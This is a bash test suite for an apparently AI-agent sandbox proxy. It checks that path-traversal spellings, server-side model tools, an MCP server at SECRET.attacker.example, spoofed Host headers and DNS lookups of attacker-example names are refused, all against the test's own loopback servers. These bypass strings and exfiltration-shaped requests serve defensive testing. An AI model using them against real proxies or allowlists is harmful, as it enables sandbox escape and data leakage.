#!/bin/bash
# test-rules.sh: what the proxy judges beyond host and port: request rules on allow entries
# (methods, path prefixes and every spelling that tries to slip past them, body and response
# caps), the model fence (endpoints, dot segments, server-side tools, anthropic-beta), the
# per-run caps, why a refusal happened (X-Clawbox-Refused, the body, the audit), names judged
# before any DNS lookup (a DNS server of the test's own), and the proxy's own confinement.
# Servers are the test's own, on loopback.
. "$(dirname "$0")/lib.sh"

AUDIT=$WORK/audit.jsonl
PIDS=()
cleanup() {
	for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
	cleanup_work
}
trap cleanup EXIT

start_httpd_log() { # VAR NAME LOGFILE
	"$HTTPD" 127.0.0.1 0 "$2" "$3" >"$WORK/port.$2" 2>/dev/null &
	PIDS+=($!)
	wait_until 5 test -s "$WORK/port.$2"
	printf -v "$1" '%s' "$(cat "$WORK/port.$2")"
}
start_httpd_log UP model "$WORK/model.log"
start_httpd_log WEB web "$WORK/web.log"
KEY="sk-test-$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')"
export CB_TEST_KEY="$KEY"
# A base URL with a path: what a dot segment would climb out of.
MODEL=(--model-upstream "http://127.0.0.1:$UP/api" --model-key-env CB_TEST_KEY)

# curl inside a sandbox; $WORK/out gets the status, the headers and the body.
inside() { # CLAWBOX-ARGS... -- CURL-ARGS...
	local args=()
	while [ "$1" != "--" ]; do args+=("$1"); shift; done
	shift
	"$CLAWBOX" run --audit "$AUDIT" "${args[@]}" -- curl -s -S --max-time 10 -i \
		--noproxy '' -x http://127.0.0.1:3128 "$@" \
		>"$WORK/out" 2>"$WORK/err" </dev/null
	RC=$?
}
status_is() { head -1 "$WORK/out" | grep -q "^HTTP/1.1 $1"; }
refused_because() { # STATUS TEXT: the status, the header and the body all say why
	status_is "$1" && grep -qi "^X-Clawbox-Refused: .*$2" "$WORK/out" &&
		grep -q "^clawbox proxy: .*$2" "$WORK/out"
}
audit_has() { tail -n 1 "$AUDIT" | grep -q -- "$1"; }
never_arrived() { ! grep -q -- "$1" "$2"; }

# ---- the model fence ----

# The dot-segment climb: libcurl would resolve /api/../../other/secret to /other/secret on
# the model host, with the key. (Before the fence, this reached the upstream.)
inside "${MODEL[@]}" -- --path-as-is -X POST -d '{}' \
	http://model.clawbox.internal/../../other/secret
check "model fence: /../../other/secret is refused (403, says why)" refused_because 403 "dot segment"
check "model fence: nothing of it reached the upstream" never_arrived "/other/secret" "$WORK/model.log"
check "model fence: the refusal is audited" \
	sh -c "tail -n 1 '$AUDIT' | grep -q '\"decision\":\"deny\".*dot segment'"
for p in '/v1/../v1/messages' '/v1/messages/%2e%2e/x' '/v1/%2E%2E/files' '//v1/messages' \
	'/v1/messages%2f..' '/v1/./messages' '/v1\messages'; do
	inside "${MODEL[@]}" -- --path-as-is -X POST -d '{}' "http://model.clawbox.internal$p"
	check "model fence: $p is refused" status_is 403
done
inside "${MODEL[@]}" -- -X POST -d '{}' http://model.clawbox.internal/v1/files
check "model fence: POST /v1/files is not a model endpoint" refused_because 403 "not one of the model endpoints"
inside "${MODEL[@]}" -- -X DELETE http://model.clawbox.internal/v1/files/file_1
check "model fence: DELETE /v1/files/ID is refused" status_is 403
inside "${MODEL[@]}" -- http://model.clawbox.internal/v1/messages
check "model fence: GET /v1/messages is refused" status_is 403
check "model fence: none of the refused requests reached the upstream" \
	never_arrived "/files" "$WORK/model.log"

inside "${MODEL[@]}" -- -X POST -H 'content-type: application/json' \
	-d '{"model":"m","tools":[{"name":"read","input_schema":{}}]}' \
	'http://model.clawbox.internal/v1/messages?beta=true'
check "model fence: POST /v1/messages with a custom tool passes, under the base path" \
	sh -c "head -1 '$WORK/out' | grep -q '^HTTP/1.1 200' && grep -q 'request: 2 /api/v1/messages?beta=true' '$WORK/model.log'"
for ep in /v1/messages/count_tokens /v1/chat/completions /v1/responses; do
	inside "${MODEL[@]}" -- -X POST -d '{"model":"m"}' "http://model.clawbox.internal$ep"
	check "model fence: POST $ep passes" sh -c "head -1 '$WORK/out' | grep -q '^HTTP/1.1 200' && grep -q 'request: 2 /api$ep' '$WORK/model.log'"
done
inside "${MODEL[@]}" -- http://model.clawbox.internal/v1/models
check "model fence: GET /v1/models passes" status_is 200

# Server-side tools: the provider would fetch (or connect) for the agent, past our allowlist.
body_refused() { # DESCRIPTION BODY [EXTRA-ARGS...]
	local desc=$1 body=$2
	shift 2
	inside "${MODEL[@]}" "$@" -- -X POST -d "$body" http://model.clawbox.internal/v1/messages
	if refused_because 403 "not allowed" && ! grep -qF "$body" "$WORK/model.log"; then
		ok "model fence: $desc is refused"
	else
		not_ok "model fence: $desc is refused (got: $(head -c 300 "$WORK/out" | tr '\r\n' '  '))"
	fi
}
body_refused "an MCP server at SECRET.attacker.example" \
	'{"model":"m","mcp_servers":[{"type":"url","url":"https://SECRET.attacker.example/sse","name":"x"}]}'
body_refused "Anthropic web_fetch" '{"model":"m","tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}'
body_refused "Anthropic web_search" '{"model":"m","tools":[{"type":"web_search_20250305","name":"web_search"}]}'
body_refused "Anthropic code_execution" '{"model":"m","tools":[{"name":"t","input_schema":{}},{"type":"code_execution_20250522","name":"c"}]}'
body_refused "OpenAI web_search" '{"model":"m","tools":[{"type":"web_search"}]}'
body_refused "OpenAI mcp" '{"model":"m","tools":[{"type":"mcp","server_url":"https://x.example"}]}'
body_refused "OpenAI file_search" '{"model":"m","tools":[{"type":"file_search"}]}'
body_refused "OpenAI code_interpreter" '{"model":"m","tools":[{"type":"code_interpreter"}]}'
body_refused "OpenAI web_search_options" '{"model":"m","web_search_options":{}}'
inside "${MODEL[@]}" -- -X POST -d '{"model":"m","tools":[{"type":"x"}],"tools":[]}' \
	http://model.clawbox.internal/v1/messages
check "model fence: a body with a duplicate key is refused" status_is 403
inside "${MODEL[@]}" -- -X POST -d 'not json' http://model.clawbox.internal/v1/messages
check "model fence: a body that is not JSON is refused" refused_because 403 "JSON object"
inside "${MODEL[@]}" --model-allow-tool web_search -- -X POST \
	-d '{"model":"m","tools":[{"type":"web_search_20250305","name":"web_search"}],"marker":"allowed-ws"}' \
	http://model.clawbox.internal/v1/messages
check "model fence: --model-allow-tool web_search lets web_search_20250305 through" \
	sh -c "head -1 '$WORK/out' | grep -q '^HTTP/1.1 200' && grep -q allowed-ws '$WORK/model.log'"
inside "${MODEL[@]}" --model-allow-tool web_search -- -X POST \
	-d '{"model":"m","tools":[{"type":"web_fetch_20250910","name":"f"}]}' \
	http://model.clawbox.internal/v1/messages
check "model fence: ...but not another server tool" status_is 403
inside "${MODEL[@]}" -- -X POST -H 'anthropic-beta: prompt-caching-2024-07-31, mcp-client-2025-04-04' \
	-d '{"model":"m"}' http://model.clawbox.internal/v1/messages
check "model fence: an unknown anthropic-beta value is refused" refused_because 403 "anthropic-beta mcp-client-2025-04-04"
inside "${MODEL[@]}" -- -X POST -H 'anthropic-beta: prompt-caching-2024-07-31' \
	-d '{"model":"beta-ok"}' http://model.clawbox.internal/v1/messages
check "model fence: a harmless anthropic-beta value passes" \
	sh -c "head -1 '$WORK/out' | grep -q '^HTTP/1.1 200' && grep -q 'anthropic-beta: prompt-caching' '$WORK/model.log'"
check "model fence: no refusal leaked the key" never_arrived "$KEY" "$WORK/out"

# ---- request rules on allow entries ----
R="{\"host\": \"127.0.0.1:$WEB\", \"methods\": [\"GET\"], \"paths\": [\"/repos/ana/\", \"/big/\"]}"
inside --allow "$R" -- "http://127.0.0.1:$WEB/repos/ana/x?page=2"
check "rules: GET under an allowed prefix passes" \
	sh -c "head -1 '$WORK/out' | grep -q '^HTTP/1.1 200' && grep -q 'request: 1 /repos/ana/x?page=2' '$WORK/web.log'"
inside --allow "$R" -- "http://127.0.0.1:$WEB/repos/bob/x"
check "rules: another path is refused (403, says why)" refused_because 403 "path /repos/bob/x is not allowed"
inside --allow "$R" -- -X POST -d x "http://127.0.0.1:$WEB/repos/ana/post"
check "rules: another method is refused" refused_because 403 "method POST is not allowed"
for p in '/repos/ana/../bob/x' '/repos/ana/%2e%2e/bob' '/repos/ana/%2E./bob' '/repos/ana/.%2e/bob' \
	'/repos/ana//x' '/repos/ana/x%2f..%2fbob' '/repos/ana/x%2F' '/repos/ana/..;/bob' \
	'/repos/ana/./x' '/repos/ana/x\..\bob' '/repos/ana/%252e%252e/bob' '/repos/ana/..'; do
	inside --allow "$R" -- --path-as-is "http://127.0.0.1:$WEB$p"
	check "rules: $p is refused, not resolved" status_is 403
done
check "rules: no refused request reached the server" \
	sh -c "! grep -q -e bob -e post -e 'ana//' -e 'x%2' '$WORK/web.log'"
check "rules: the audit names the rule that refused" \
	sh -c "grep -q '\"decision\":\"deny\",\"reason\":\"method POST is not allowed here\"' '$AUDIT'"
inside --allow "$R" -- -p "http://127.0.0.1:$WEB/repos/ana/x"
check "rules: a tunnel to a host with rules is refused (it could not be judged)" \
	sh -c "grep -q '403' '$WORK/out' && grep -q 'tunnel to it could not be judged' '$WORK/out'"
inside --allow "$R" --allow "127.0.0.1:$WEB" -- "http://127.0.0.1:$WEB/repos/bob/plain"
check "rules: a plain entry for the same host allows what the rules would not" status_is 200
inside --allow "127.0.0.1:$WEB" -- --path-as-is "http://127.0.0.1:$WEB/@scope%2fname//x"
check "rules: a plain entry's paths are not judged (npm's @scope%2fname passes)" \
	sh -c "head -1 '$WORK/out' | grep -q '^HTTP/1.1 200' && grep -q '@scope%2fname//x' '$WORK/web.log'"

B="{\"host\": \"127.0.0.1:$WEB\", \"max_body\": \"1K\", \"max_response\": \"1M\"}"
head -c 4096 /dev/zero | tr '\0' a >"$WORK/4k"
"$CLAWBOX" run --audit "$AUDIT" --mount "$WORK/4k:/tmp/4k" --allow "$B" -- curl -s -S \
	--max-time 10 -i --noproxy '' -x http://127.0.0.1:3128 -X POST --data-binary @/tmp/4k "http://127.0.0.1:$WEB/upload4k" \
	>"$WORK/out" 2>&1 </dev/null
check "rules: a body over max_body is refused (413)" \
	sh -c "head -1 '$WORK/out' | grep -q '^HTTP/1.1 413' && ! grep -q upload4k '$WORK/web.log'"
"$CLAWBOX" run --audit "$AUDIT" --mount "$WORK/4k:/tmp/4k" --allow "$B" -- curl -s -S \
	--max-time 10 -i --noproxy '' -x http://127.0.0.1:3128 -X POST -H 'Transfer-Encoding: chunked' --data-binary @/tmp/4k \
	"http://127.0.0.1:$WEB/chunked4k" >"$WORK/out" 2>&1 </dev/null
check "rules: a chunked body over max_body is cut off" \
	sh -c "! grep -q 'body-bytes: 4096' '$WORK/out' && ! grep -q 'body: aaaa' '$WORK/web.log'"
inside --allow "$B" -- -o /dev/null -w '%{size_download}' "http://127.0.0.1:$WEB/big/4"
got=$(tail -c 20 "$WORK/out" | grep -o '[0-9]*$')
check "rules: a response over max_response is cut off (got ${got:-?} bytes of 4 MiB)" \
	sh -c "[ '${got:-0}' -lt 2097152 ] && grep -q 'max_response' '$AUDIT'"
inside --allow "$B" -- "http://127.0.0.1:$WEB/big/0"
check "rules: a small response passes" status_is 200

# The proxy's own fetch of GET https://... (clients without TLS) is judged by the rules too.
openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=127.0.0.1 -days 1 \
	-addext subjectAltName=IP:127.0.0.1 -keyout "$WORK/key.pem" -out "$WORK/cert.pem" \
	>/dev/null 2>&1
chmod 644 "$WORK/cert.pem"
HTTPD_TLS_CERT="$WORK/cert.pem" HTTPD_TLS_KEY="$WORK/key.pem" \
	"$HTTPD" 127.0.0.1 0 tlsweb "$WORK/tlsweb.log" >"$WORK/port.tlsweb" 2>/dev/null &
PIDS+=($!)
wait_until 5 test -s "$WORK/port.tlsweb"
TLSWEB=$(cat "$WORK/port.tlsweb")
tls_fetch() { # PATH
	"$CLAWBOX" run --audit "$AUDIT" --fetch-ca-file "$WORK/cert.pem" \
		--allow "{\"host\": \"127.0.0.1:$TLSWEB\", \"paths\": [\"/ok/\"]}" -- bash -c \
		'exec 3<>/dev/tcp/127.0.0.1/3128; printf "GET https://127.0.0.1:%s%s HTTP/1.1\r\nHost: x\r\n\r\n" "$1" "$2" >&3; timeout 10 cat <&3' \
		_ "$TLSWEB" "$1" >"$WORK/out" 2>&1 </dev/null
}
tls_fetch /ok/fetched
check "rules: the https fetch under an allowed prefix passes" \
	sh -c "head -1 '$WORK/out' | grep -q '^HTTP/1.1 200' && grep -q 'request: 1 /ok/fetched' '$WORK/tlsweb.log'"
tls_fetch /secret/fetched
check "rules: the https fetch of another path is refused" refused_because 403 "path /secret/fetched"
tls_fetch /ok/%2e%2e/secret
check "rules: the https fetch of an encoded climb is refused" \
	sh -c "head -1 '$WORK/out' | grep -q '^HTTP/1.1 403' && ! grep -q secret '$WORK/tlsweb.log'"

bad_allow() { # DESCRIPTION SPEC
	run_cb run --allow "$2" -- true
	if [ "$RC" = 125 ] && one_error_line; then ok "bad rule refused: $1"; else
		not_ok "bad rule refused: $1 (exit $RC: $(head -c 200 "$WORK/err"))"; fi
}
bad_allow "unknown key" '{"host":"a.example","method":["GET"]}'
bad_allow "no host" '{"paths":["/x"]}'
bad_allow "a path with a dot segment" '{"host":"a.example","paths":["/a/../b"]}'
bad_allow "a relative path" '{"host":"a.example","paths":["a/"]}'
bad_allow "a lower-case method" '{"host":"a.example","methods":["get"]}'
bad_allow "a bad size" '{"host":"a.example","max_body":"lots"}'
bad_allow "not JSON" '{"host":'
expect_rc 0 "a good rule is accepted" run --allow '{"host":"*.example.org:8443","methods":["GET","HEAD"],"paths":["/"],"max_body":1024,"max_response":"10M"}' -- true

# ---- per-run caps ----
"$CLAWBOX" run --audit "$AUDIT" --allow "127.0.0.1:$WEB" --proxy-max-requests 2 -- sh -c \
	"for i in 1 2 3; do curl -s -S --max-time 5 -i --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:$WEB/cap\$i | head -1; done" \
	>"$WORK/out" 2>&1 </dev/null
check "caps: the third request past --proxy-max-requests 2 is refused (429)" \
	sh -c "[ \$(grep -c 'HTTP/1.1 200' '$WORK/out') = 2 ] && grep -q 'HTTP/1.1 429' '$WORK/out' && ! grep -q cap3 '$WORK/web.log'"
check "caps: audited" grep -q 'max-requests' "$AUDIT"
"$CLAWBOX" run --audit "$AUDIT" --mount "$WORK/4k:/tmp/4k" --allow "127.0.0.1:$WEB" \
	--proxy-max-bytes-out 2K -- curl -s -S --max-time 5 -i --noproxy '' -x http://127.0.0.1:3128 --data-binary @/tmp/4k \
	"http://127.0.0.1:$WEB/out4k" >"$WORK/out" 2>&1 </dev/null
check "caps: a request past --proxy-max-bytes-out is refused" \
	sh -c "! grep -q 'body-bytes: 4096' '$WORK/out' && grep -q 'max-bytes-out' '$AUDIT'"
inside --allow "127.0.0.1:$WEB" --proxy-max-bytes-in 1M -- -o /dev/null -w '%{size_download}' \
	"http://127.0.0.1:$WEB/big/3"
got=$(tail -c 20 "$WORK/out" | grep -o '[0-9]*$')
check "caps: a download past --proxy-max-bytes-in is cut off (${got:-?} bytes)" \
	sh -c "[ '${got:-0}' -lt 2097152 ] && grep -q 'max-bytes-in' '$AUDIT'"
expect_rc 125 "caps: a bad value is refused" run --allow 127.0.0.1:1 --proxy-max-requests lots -- true

# ---- names before addresses: a DNS server of our own must see no query for a refused name ----
DNSLOG=$WORK/dns.log
python3 - "$DNSLOG" >"$WORK/port.dns" 2>"$WORK/dns.err" <<'PY' &
import socket, struct, sys, time
log = open(sys.argv[1], "a", buffering=1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 0))
print(s.getsockname()[1], flush=True)
s.settimeout(1.0)
end = time.time() + 300
while time.time() < end:
    try:
        q, peer = s.recvfrom(512)
    except socket.timeout:
        continue
    if len(q) < 12:
        continue
    i, labels = 12, []
    while i < len(q) and q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode("ascii", "replace"))
        i += q[i] + 1
    qtype = struct.unpack(">H", q[i + 1:i + 3])[0] if i + 3 <= len(q) else 0
    name = ".".join(labels).lower()
    log.write("query %s %d\n" % (name, qtype))
    question = q[12:i + 5]
    if qtype == 1:  # A: 192.0.2.1 (TEST-NET-1: nothing listens; the point is the query)
        answer = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([192, 0, 2, 1])
        s.sendto(q[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, 1, 0, 0) + question + answer, peer)
    else:
        s.sendto(q[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, 0, 0, 0) + question, peer)
PY
PIDS+=($!)
wait_until 5 test -s "$WORK/port.dns"
DNSPORT=$(cat "$WORK/port.dns")
printf 'nameserver 127.0.0.1:%s\noptions timeout:2 attempts:1\n' "$DNSPORT" >"$WORK/resolv.conf"
# The proxy reads /etc/resolv.conf (evdns): give this run a private one, in a mount
# namespace of its own, so nothing else on the machine sees it.
dns_run() { # CURL-ARGS...
	unshare -m sh -c 'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"' _ \
		"$WORK/resolv.conf" "$CLAWBOX" run --audit "$AUDIT" --allow allowed.dns.test \
		--allow '{"host":"rules.dns.test","paths":["/ok/"]}' -- \
		curl -s -S --max-time 8 -i "$@" >"$WORK/out" 2>&1 </dev/null
}
dns_run http://allowed.dns.test/x
check "dns: an allowed name is looked up (the test's server saw it)" \
	wait_until 3 grep -q "query allowed.dns.test" "$DNSLOG"
dns_run http://secret-one.attacker.example/x
dns_run -p https://secret-two.attacker.example/x
# GET https://... as a plain request: the proxy's own fetch, for clients without TLS.
unshare -m sh -c 'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"' _ \
	"$WORK/resolv.conf" "$CLAWBOX" run --audit "$AUDIT" --allow allowed.dns.test -- bash -c \
	'exec 3<>/dev/tcp/127.0.0.1/3128; printf "GET https://secret-three.attacker.example/ HTTP/1.1\r\nHost: x\r\n\r\n" >&3; timeout 5 cat <&3' \
	>"$WORK/out" 2>&1 </dev/null
dns_run -x http://127.0.0.1:3128 http://rules.dns.test/not-ok/secret-four
dns_run -x http://127.0.0.1:3128 --path-as-is http://rules.dns.test/ok/../secret-five
sleep 0.5
check "dns: refused names are never looked up (plain, CONNECT, https fetch, rules)" \
	sh -c "grep -q 'secret-three' '$AUDIT' && ! grep -q -e secret -e rules.dns '$DNSLOG'"

# ---- clients that use no proxy: model.clawbox.internal through /etc/hosts and port 80 ----
: >"$WORK/model.log"
"$CLAWBOX" run --audit "$AUDIT" "${MODEL[@]}" -- sh -c '
	getent hosts model.clawbox.internal
	curl -s -S --max-time 10 --noproxy "*" -X POST -d "{\"via\":\"curl-direct\"}" \
		http://model.clawbox.internal/v1/messages
	node -e "fetch(\"http://model.clawbox.internal/v1/messages\", {method: \"POST\",
		body: JSON.stringify({via: \"node-fetch\"})}).then(r => r.text()).then(t =>
		console.log(\"node got:\", t.split(\"\\n\")[0])).catch(e => console.log(\"node:\", e.cause || e))"
	curl -s -S --max-time 10 -p -x http://127.0.0.1:3128 -X POST -d "{\"via\":\"connect-80\"}" \
		http://model.clawbox.internal/v1/messages
	curl -s -S --max-time 10 --noproxy "*" -H "Host: evil.example" http://model.clawbox.internal/v1/models
	curl -s -S --max-time 10 --noproxy "*" --path-as-is http://model.clawbox.internal/../x' \
	>"$WORK/out" 2>&1 </dev/null
check "no proxy: model.clawbox.internal resolves to 127.0.0.1 inside" \
	grep -q "^127.0.0.1 *model.clawbox.internal" "$WORK/out"
check "no proxy: curl --noproxy '*' reaches the model with the key" \
	sh -c "grep -q curl-direct '$WORK/model.log' && grep -q 'x-api-key: $KEY' '$WORK/model.log'"
check "no proxy: Node's fetch (no proxy support) reaches the model" \
	sh -c "grep -q 'node got: server: model' '$WORK/out' && grep -q node-fetch '$WORK/model.log'"
check "no proxy: CONNECT model.clawbox.internal:80 is served as plain HTTP" \
	grep -q connect-80 "$WORK/model.log"
check "no proxy: port 80 serves only *.clawbox.internal names" \
	grep -q "only http://NAME.clawbox.internal/ is served" "$WORK/out"
check "no proxy: the model fence holds on port 80 too" grep -q "dot segment" "$WORK/out"
"$CLAWBOX" run --allow "127.0.0.1:$WEB" -- cat /etc/hosts >"$WORK/out" 2>&1 </dev/null
check "no proxy: without a model upstream the name is not there" \
	sh -c "grep -q localhost '$WORK/out' && ! grep -q clawbox.internal '$WORK/out'"

# ---- the daemon's configuration: rule objects, caps, allowed model tools ----
FAKE=${FAKE_MODEL:-$TOP/build/tests/fake-model}
DKEY=sk-ant-test-RULES-2222
printf '{"turns": [], "default": {"reply": {"echo": true}, "delay_ms": 3000}}' >"$WORK/slow.json"
"$FAKE" --scenario "$WORK/slow.json" --log "$WORK/fake.log" --port-file "$WORK/mport" \
	--key "$DKEY" &
PIDS+=($!)
wait_until 5 test -s "$WORK/mport"
DPORT=$((20000 + RANDOM % 20000))
daemon_config() { # GROUP-EXTRA-JSON
	printf '{"data_dir": "%s/data", "listen": "127.0.0.1:%s",
	 "model": {"provider": "anthropic", "base_url": "http://127.0.0.1:%s", "api_key_env": "R_KEY",
	           "allow_tools": ["web_search"]},
	 "groups": [{"id": "main", "main": true%s}]}\n' "$WORK" "$DPORT" "$(cat "$WORK/mport")" "$1" \
		>"$WORK/daemon.json"
}
daemon_config ', "allow": ["en.wikipedia.org", {"host": "api.github.com", "methods": ["GET"], "paths": ["/repos/ana/"]}], "max_bytes_out": "10M", "max_bytes_in": "100M", "max_requests": 77'
"$CLAWBOX" serve --config "$WORK/daemon.json" --check-config >"$WORK/out" 2>&1
check "daemon: allow objects, caps and model.allow_tools are valid configuration" grep -q "valid (1 group)" "$WORK/out"
R_KEY=$DKEY "$CLAWBOX" serve --config "$WORK/daemon.json" >"$WORK/serve.out" 2>"$WORK/serve.err" &
SPID=$!
wait_until 10 curl -sf "http://127.0.0.1:$DPORT/healthz" -o /dev/null
DTOKEN=$(cat "$WORK/data/api-token" 2>/dev/null)
curl -s -o /dev/null -X POST -H "Authorization: Bearer $DTOKEN" --data '{"text": "hi rules"}' \
	"http://127.0.0.1:$DPORT/api/v1/groups/main/messages"
dproxy() { # the proxy of this daemon's run: a clawbox-proxy (not a --check) under our daemon
	local p q i
	for p in $(pgrep -x clawbox-proxy); do
		q=$p
		for i in 1 2 3 4; do
			q=$(awk '{print $4}' /proc/$q/stat 2>/dev/null)
			[ -z "$q" ] && break
			if [ "$q" = "$SPID" ] && ! tr '\0' ' ' </proc/$p/cmdline | grep -q -- --check; then
				echo "$p"
				return 0
			fi
		done
	done
	return 1
}
wait_until 15 dproxy >/dev/null
dp=$(dproxy)
tr '\0' '\n' </proc/${dp:-0}/cmdline >"$WORK/dproxy.args" 2>/dev/null
check "daemon: the run's proxy gets the group's caps" \
	sh -c "grep -qx -- --max-requests '$WORK/dproxy.args' && grep -qx 77 '$WORK/dproxy.args' && grep -qx 10M '$WORK/dproxy.args' && grep -qx -- --max-bytes-in '$WORK/dproxy.args'"
check "daemon: ...the rule object and the allowed model tool" \
	sh -c "grep -q '\"paths\":\\[\"/repos/ana/\"\\]' '$WORK/dproxy.args' && grep -qx web_search '$WORK/dproxy.args'"
kill -TERM $SPID; wait $SPID 2>/dev/null; SPID=
# Node's fetch, with no proxy support, against the fake model (the real Messages API shape).
R_KEY=$DKEY "$CLAWBOX" run --model-upstream "http://127.0.0.1:$(cat "$WORK/mport")" \
	--model-key-env R_KEY -- node -e '
	fetch("http://model.clawbox.internal/v1/messages", {method: "POST",
		headers: {"content-type": "application/json", "anthropic-version": "2023-06-01"},
		body: JSON.stringify({model: "m", max_tokens: 16,
			messages: [{role: "user", content: "hello from node"}]})})
	.then(r => r.json()).then(j => console.log("node:", j.content[0].text))
	.catch(e => console.log("node failed:", e.cause || e))' >"$WORK/out" 2>&1 </dev/null
check "no proxy: Node's fetch gets the fake model's answer, the key added on the way" \
	sh -c "grep -q 'node: echo: hello from node' '$WORK/out' && tail -n 1 '$WORK/fake.log' | grep -q '\"ok\":true'"
daemon_config ', "allow": [{"host": "api.github.com", "paths": ["/a/../b"]}]'
"$CLAWBOX" serve --config "$WORK/daemon.json" >"$WORK/out" 2>"$WORK/err" </dev/null
check "daemon: a bad rule object stops the start, naming the group (exit $?)" \
	sh -c "grep -q 'groups\[0\]' '$WORK/err' && grep -q 'dot segment' '$WORK/err'"
daemon_config ', "max_bytes_out": "lots"'
"$CLAWBOX" serve --config "$WORK/daemon.json" --check-config >"$WORK/out" 2>"$WORK/err" </dev/null
check "daemon: a bad cap is a configuration error naming the key" grep -q 'groups\[0\].max_bytes_out' "$WORK/err"

# ---- the proxy confines itself ----
"$CLAWBOX" run "${MODEL[@]}" --allow "127.0.0.1:$WEB" -- sh -c \
	"sleep 3; curl -s -S --max-time 5 --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:$WEB/after-confine; curl -s -S --max-time 5 -X POST -d '{}' http://model.clawbox.internal/v1/messages" \
	>"$WORK/conf.out" 2>&1 </dev/null &
launcher=$!
wait_until 10 proxy_of $launcher >/dev/null
pp=$(proxy_of $launcher)
check "confinement: the proxy runs under a seccomp filter and no_new_privs" \
	wait_until 3 sh -c "grep -q '^Seccomp:[[:space:]]*2' /proc/$pp/status && grep -q '^NoNewPrivs:[[:space:]]*1' /proc/$pp/status"
wait $launcher
check "confinement: the confined proxy still serves plain HTTP and the model" \
	sh -c "grep -q 'server: web' '$WORK/conf.out' && grep -q 'server: model' '$WORK/conf.out'"

check_clean "nothing of the sandboxes left"
done_testing
